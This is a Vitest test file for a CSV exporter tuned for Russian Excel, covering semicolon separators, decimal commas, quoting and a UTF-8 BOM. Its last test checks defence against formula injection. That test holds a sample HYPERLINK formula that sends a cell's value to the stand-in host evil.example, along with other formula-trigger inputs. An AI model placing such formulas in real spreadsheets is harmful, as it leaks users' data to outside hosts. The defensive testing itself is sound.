import { describe, expect, it } from 'vitest';
import { csvBlob, toCsv } from './csv';

describe('csv, as a Russian Excel opens it', () => {
  it('separates fields with semicolons and records with CRLF', () => {
    expect(
      toCsv(
        ['Категория', 'Клиенты'],
        [
          ['Новые', 3],
          ['Сделка', 12500],
        ],
      ),
    ).toBe('Категория;Клиенты\r\nНовые;3\r\nСделка;12500\r\n');
  });

  it('writes fractions with a decimal comma, so the cell is a number', () => {
    expect(
      toCsv(
        ['Доля', 'Сумма'],
        [
          [33.3, -12.5],
          [0.05, 1250050.5],
        ],
      ),
    ).toBe('Доля;Сумма\r\n33,3;-12,5\r\n0,05;1250050,5\r\n');
  });

  it('quotes fields with semicolons, quotes and line breaks, doubling the quotes', () => {
    expect(toCsv(['a'], [['Иванов; Пётр'], ['ООО "Ромашка"'], ['две\nстроки'], ['cr\rlf']])).toBe(
      'a\r\n"Иванов; Пётр"\r\n"ООО ""Ромашка"""\r\n"две\nстроки"\r\n"cr\rlf"\r\n',
    );
  });

  it('leaves commas and spaces unquoted and writes empty cells for null', () => {
    expect(toCsv(['a', 'b', 'c'], [['Иванов, Пётр', null, undefined]])).toBe('a;b;c\r\nИванов, Пётр;;\r\n');
  });

  it('starts the file with a UTF-8 BOM so Excel reads Cyrillic', async () => {
    const blob = csvBlob(['Имя'], [['Анна']]);
    expect(blob.type).toBe('text/csv;charset=utf-8');
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toBe('Имя\r\nАнна\r\n');
  });

  it('writes a text cell a spreadsheet would run as a formula as text, and numbers as numbers', () => {
    const attack = '=HYPERLINK("http://evil.example/?"&A2;"Нажмите")';
    expect(
      toCsv(
        ['a', 'b'],
        [
          [attack, -12.5],
          ['+7 999', '@SUM(A1)'],
          ['-1+2', ' =1+1'],
          ['\tтаб', 'Обычный - текст'],
        ],
      ),
    ).toBe(
      'a;b\r\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A2;""Нажмите"")";-12,5\r\n` +
        "'+7 999;'@SUM(A1)\r\n" +
        "'-1+2;' =1+1\r\n" +
        "'\tтаб;Обычный - текст\r\n",
    );
  });
});
